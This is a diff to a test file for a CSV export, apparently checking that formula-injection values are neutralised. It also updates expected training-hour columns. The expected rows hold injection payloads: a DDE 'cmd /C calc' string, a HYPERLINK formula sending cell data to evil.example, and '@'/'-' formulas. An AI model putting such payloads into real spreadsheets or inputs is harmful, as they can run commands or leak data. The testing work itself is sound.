@@ -34,7 +34,8 @@ describe('exports', () => {
     expect(run.code).toBe(0);
     const lines = run.out.trim().split('\n');
     expect(lines).toHaveLength(4);
-    expect(lines[1]).toBe(`2026,'+cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",ou_1,0,0,0,90,0`);
+    // target_hours is the two requirements' sum (集中培训 90 + 网络学习 50, issue 10); offline_hours and requirements follow.
+    expect(lines[1]).toBe(`2026,'+cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",ou_1,0,0,0,140,0,0,集中培训 0/90；网络学习 0/50`);
     expect(lines[2]).toContain(`,'@SUM(1+1),`);
     expect(lines[3]).toContain(`,'-2+3,`);
     // No field of any data line starts with a character a spreadsheet would evaluate.
